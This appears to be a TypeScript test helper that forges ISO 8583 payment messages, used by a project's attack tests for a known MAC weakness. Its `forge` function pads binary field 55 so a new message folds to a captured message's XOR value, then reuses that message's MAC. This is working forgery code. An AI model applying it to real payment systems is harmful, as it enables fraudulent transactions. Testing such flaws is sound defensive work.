// How an attacker forges an ISO 8583 request from a signed message (issue 13): the CUP MAC depends
// on a message only through R, the XOR of its MAC input's 8-byte blocks, so a message built to
// fold to a captured message's R takes that message's MAC. Used by the attack tests.
import { encodeFrame, macFold, macInput, type IsoMessage } from '../../iso8583/index.js';

/** The frame's MAC input folded to R, and its field 64. */
export function signatureOf(frame: Buffer): { fold: Buffer; mac: Buffer } {
  return { fold: macFold(macInput(frame)), mac: Buffer.from(frame.subarray(frame.length - 8)) };
}

/**
 * `template` with `fillerBytes` bytes in field 55 chosen so that its MAC input folds to `target`,
 * and `mac` put in field 64. Field 55 is binary, so its bytes are free: XOR-ing byte j of the
 * filler changes byte (offset + j) mod 8 of the fold, offset being where field 55's value starts
 * in the MAC input.
 */
export function forge(template: IsoMessage, target: { fold: Buffer; mac: Buffer }, fillerBytes = 16): Buffer {
  const withFiller = (filler: Buffer): Buffer =>
    encodeFrame({
      ...template,
      fields: { ...template.fields, '55': filler.toString('hex').toUpperCase(), '64': '0'.repeat(16) },
    });
  const zero = withFiller(Buffer.alloc(fillerBytes));
  const probe = withFiller(Buffer.concat([Buffer.from([1]), Buffer.alloc(fillerBytes - 1)]));
  const at = zero.findIndex((byte, i) => byte !== probe[i]);
  const input = macInput(zero);
  const offset = at - (zero.length - 8 - input.length);
  const fold = macFold(input);
  const filler = Buffer.alloc(fillerBytes);
  for (let j = 0; j < 8; j += 1) filler[j] = fold[(offset + j) % 8]! ^ target.fold[(offset + j) % 8]!;
  const forged = withFiller(filler);
  target.mac.copy(forged, forged.length - 8);
  return forged;
}
